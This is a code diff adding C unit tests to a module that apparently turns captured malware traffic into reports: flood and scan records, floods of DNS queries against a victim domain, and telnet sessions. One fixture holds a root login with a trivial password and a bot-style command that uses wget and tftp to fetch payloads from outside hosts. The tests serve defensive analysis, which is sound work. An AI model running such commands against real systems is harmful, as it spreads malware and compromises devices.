@@ -150,6 +150,113 @@ static void test_events(void **state)
 	assert_int_equal(report_keep(folder, stderr), 0);
 }
 
+#define FLOOD(id, proto, ip, kind, sources, ports, flags) "{\"event_type\":\"flood\",\"in_iface\":\"tap0\"," \
+	"\"src_ip\":\"7.7.7.7\",\"dest_ip\":\"" ip "\",\"src_port\":5,\"dest_port\":80,\"proto\":\"" proto "\",\"flood\":{" \
+	"\"id\":" id ",\"kind\":\"" kind "\",\"packets\":5000,\"bytes\":200000,\"peak\":1200,\"duration\":5.0," \
+	"\"start\":\"2026-11-24T18:00:11.000000+0000\",\"end\":\"2026-11-24T18:00:16.000000+0000\"," \
+	"\"sources\":" sources ",\"destinations\":1,\"src_ports\":" ports ",\"dest_ports\":1,\"lengths\":1," \
+	"\"length_min\":40,\"length_max\":40,\"ttl_min\":64,\"ttl_max\":64,\"delivered\":false" flags "}}\n"
+#define SYNS ",\"tcp_flags\":{\"syn\":5000,\"ack\":0,\"fin\":0,\"rst\":0,\"psh\":0,\"urg\":0},\"samples\":[\"45\",\"zz\",7]"
+
+static json_t *attack_on(json_t *facts, const char *address)
+{
+	json_t *attack;
+	size_t i;
+
+	json_array_foreach(json_object_get(facts, "attacks"), i, attack)
+		if (!strcmp(facts_string(attack, "dest_ip"), address))
+			return attack;
+	return NULL;
+}
+
+/* The kernel's records become attacks, tied to the order that they answer. */
+static void test_floods(void **state)
+{
+	json_t *facts, *attack;
+
+	(void)state;
+	write_file("events.jsonl", COMMAND "{\"event_type\":\"http\",\"proto\":\"TCP\",\"src_ip\":\"192.168.1.100\",\"http\":{}}\n");
+	write_file("flows.jsonl", "");
+	write_file("floods.jsonl", FLOOD("1", "TCP", "1.2.3.9", "destination", "900", "4000", SYNS)
+		   FLOOD("2", "UDP", "1.2.3.8", "destination", "1", "4000", "")
+		   FLOOD("2", "UDP", "1.2.3.8", "destination", "1", "4000", "")	/* its last state */
+		   FLOOD("3", "UDP", "9.9.9.9", "destination", "1", "1", "")
+		   FLOOD("4", "TCP", "8.8.8.8", "scan", "1", "1", SYNS)
+		   FLOOD("5", "89", "9.9.9.1", "destination", "1", "0", "") "{\"flood\":[]}\n");
+	facts = report_facts(folder);
+	assert_int_equal(facts_number(facts, "floods"), 5);
+	assert_int_equal(json_array_size(json_object_get(facts, "attacks")), 5);
+	attack = attack_on(facts, "1.2.3.9");
+	assert_string_equal(facts_string(attack, "attack"), "syn");
+	assert_true(json_is_true(json_object_get(attack, "forged")));
+	assert_int_equal(facts_number(attack, "packets"), 5000);
+	assert_true(facts_real(attack, "rate") == 1000);
+	/* ordered was UDP on 1.2.3.0/24 */
+	assert_null(json_object_get(attack, "command"));
+	attack = attack_on(facts, "1.2.3.8");
+	assert_string_equal(facts_string(attack, "attack"), "udp");
+	assert_true(json_is_integer(json_object_get(attack, "command")));
+	assert_null(json_object_get(attack, "differs"));
+	/* a server knows the guest's address, and it is none of these */
+	assert_true(json_is_true(json_object_get(attack, "forged")));
+	assert_string_equal(facts_string(attack_on(facts, "9.9.9.9"), "attack"), "udpplain");
+	assert_string_equal(facts_string(attack_on(facts, "9.9.9.1"), "attack"), "other");
+	assert_int_equal(json_array_size(json_object_get(first(facts, "commands"), "attacks")), 1);
+	json_decref(facts);
+	write_file("floods.jsonl", "");
+}
+
+/* Queries for ever other names of a domain, at some speed; and those for one name again and again. */
+static void test_domains(void **state)
+{
+	char path[128];
+	json_t *facts;
+	FILE *file;
+
+	(void)state;
+	snprintf(path, sizeof(path), "%s/events.jsonl", folder);
+	file = fopen(path, "w");
+	for (int i = 0; i < 1200; i++)
+		fprintf(file, "{\"timestamp\":\"2026-11-24T18:00:%02d.000000+0000\",\"event_type\":\"dns\","
+			"\"src_ip\":\"1.1.1.1\",\"dest_ip\":\"8.8.8.8\",\"dns\":{\"rrname\":\"%s%d.%s.example\"}}\n",
+			10 + i / 300, i % 2 ? "x" : "same", i % 2 ? i : 0, i % 2 ? "victim" : "other");
+	fclose(file);
+	facts = report_facts(folder);
+	assert_int_equal(json_array_size(json_object_get(facts, "attacks")), 1);
+	assert_string_equal(facts_string(first(facts, "attacks"), "domain"), "victim.example");
+	assert_int_equal(facts_number(first(facts, "attacks"), "packets"), 600);
+	assert_int_equal(facts_number(first(facts, "attacks"), "peak"), 150);
+	json_decref(facts);
+}
+
+/* A dialogue becomes a session and a step of a case; what is typed is looked through for URLs. */
+static void test_sessions(void **state)
+{
+	json_t *facts, *session, *victim;
+
+	(void)state;
+	write_file("events.jsonl",
+		   EVENT("telnet", "{\"kind\":\"login\",\"session\":4,\"username\":\"root\",\"password\":\"1\",\"success\":true}")
+		   EVENT("telnet", "{\"kind\":\"command\",\"session\":4,\"command\":\"wget http://5.5.5.5/a;tftp -g -l x -r b 6.6.6.6; tftp 7.7.7.7 -r c -g\"}")
+		   EVENT("report", "{\"address\":\"172.1.0.2\",\"port\":23,\"username\":\"root\",\"password\":\"1\"}"));
+	write_file("flows.jsonl", "");
+	facts = report_facts(folder);
+	session = first(facts, "sessions");
+	assert_int_equal(json_array_size(json_object_get(session, "urls")), 3);
+	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 0)),
+			    "http://5.5.5.5/a");
+	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 1)),
+			    "tftp://6.6.6.6/b");
+	assert_string_equal(json_string_value(json_array_get(json_object_get(session, "urls"), 2)),
+			    "tftp://7.7.7.7/c");
+	victim = json_array_get(json_object_get(first(facts, "cases"), "victims"), 0);
+	assert_string_equal(facts_string(victim, "address"), "172.1.0.2");
+	assert_string_equal(facts_string(victim, "password"), "1");
+	assert_non_null(json_object_get(victim, "reported"));
+	assert_int_equal(json_array_size(json_object_get(victim, "downloads")), 3);
+	json_decref(facts);
+}
+
 static void test_nothing(void **state)
 {
 	json_t *facts = report_facts("/nonexistent");
@@ -211,6 +318,9 @@ int main(void)
 		cmocka_unit_test(test_number),
 		cmocka_unit_test(test_command),
 		cmocka_unit_test(test_events),
+		cmocka_unit_test(test_floods),
+		cmocka_unit_test(test_domains),
+		cmocka_unit_test(test_sessions),
 		cmocka_unit_test(test_nothing),
 		cmocka_unit_test(test_bounded),
 		cmocka_unit_test(test_time),
